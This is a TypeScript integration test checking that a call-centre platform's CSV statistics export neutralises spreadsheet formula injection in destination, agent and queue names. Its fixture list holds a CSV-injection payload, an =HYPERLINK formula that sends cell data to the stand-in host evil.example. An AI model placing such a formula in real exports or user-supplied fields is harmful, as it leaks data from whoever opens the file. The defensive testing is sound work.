import { provisionCompany, type Company } from '../support/fixtures';
import { startTestGateway, type TestGateway } from '../support/test-gateway';

jest.setTimeout(30_000);

/**
 * `statisticsCsv` is opened in spreadsheets, and names are typed by users: a cell a spreadsheet would read as a
 * formula (starting with =, +, -, @; tab and carriage return cannot start a name, which refuses control
 * characters) is written as text, behind an apostrophe (decision 016).
 */

const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+1+2', '-2+3', '@SUM(A1:A9)'];
const RANGE = { from: '2026-03-02T00:00:00Z', to: '2026-03-02T01:00:00Z' };
const CSV = 'query($kind: StatisticsKind!, $from: DateTime!, $to: DateTime!, $p: Boolean!) { statisticsCsv(kind: $kind, from: $from, to: $to, perInterval: $p) }';

/** Splits RFC 4180 CSV (CRLF records, quoted fields with doubled quotes) into rows of cells. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 1;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i += 1;
    } else cell += ch;
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
  return rows;
}

describe('CSV cells cannot carry formulas', () => {
  let t: TestGateway;
  let company: Company;

  beforeAll(async () => {
    t = await startTestGateway('sqlite');
    company = await provisionCompany(t, 'formulas');
  });
  afterAll(async () => {
    await t?.close();
  });

  const names = async (kind: string, perInterval: boolean) => {
    const data = await t.ok(CSV, { kind, ...RANGE, p: perInterval }, company.adminToken);
    const [header, ...rows] = parseCsv(data.statisticsCsv);
    expect(header!.slice(0, 2)).toEqual(['id', 'name']);
    return rows.map((r) => r[1]!);
  };

  it('writes destinations named like formulas (=HYPERLINK, +, -, @) as text behind an apostrophe, in totals and per interval, and leaves every other cell as it was', async () => {
    const ordinary = 'Partner 24/7, "Leeds"';
    for (const name of [...FORMULAS, ordinary]) {
      await t.ok('mutation($i: ExternalDestinationInput!) { createExternalDestination(input: $i) { id } }', { i: { name, numberMode: 'FULL_NUMBER', number: '+442079460958' } }, company.adminToken);
    }
    for (const perInterval of [false, true]) {
      const cells = await names('DESTINATIONS', perInterval);
      expect(new Set(cells)).toEqual(new Set([...FORMULAS.map((n) => `'${n}`), ordinary]));
      expect(cells.length).toBe((FORMULAS.length + 1) * (perInterval ? 4 : 1));
    }
    // Ids, local times and figures are unchanged.
    const rows = parseCsv((await t.ok(CSV, { kind: 'DESTINATIONS', ...RANGE, p: false }, company.adminToken)).statisticsCsv).slice(1);
    for (const row of rows) {
      expect(row[0]).toMatch(/^[0-9a-f-]{36}$/);
      expect(row[2]).toMatch(/^2026-03-02T00:00:00(Z|\+00:00)$/);
      expect(row.slice(4).every((cell) => /^(\d+(\.\d+)?)?$/.test(cell))).toBe(true);
    }
  });

  it('writes agents and queues named like formulas as text too', async () => {
    const agents: string[] = [];
    for (const name of FORMULAS) agents.push((await t.ok('mutation($i: AgentInput!) { createAgent(input: $i) { id } }', { i: { name } }, company.adminToken)).createAgent.id);
    const group = await t.ok('mutation($i: AgentGroupInput!) { createAgentGroup(input: $i) { id } }', { i: { name: 'Formula group', agentIds: agents, externalDestinationIds: [] } }, company.adminToken);
    for (const name of FORMULAS) {
      await t.ok('mutation($i: QueueInput!) { createQueue(input: $i) { id } }', { i: { name, groups: [{ groupId: group.createAgentGroup.id }] } }, company.adminToken);
    }
    expect(new Set(await names('AGENTS', false))).toEqual(new Set(FORMULAS.map((n) => `'${n}`)));
    expect(new Set(await names('QUEUES', true))).toEqual(new Set(FORMULAS.map((n) => `'${n}`)));
  });
});
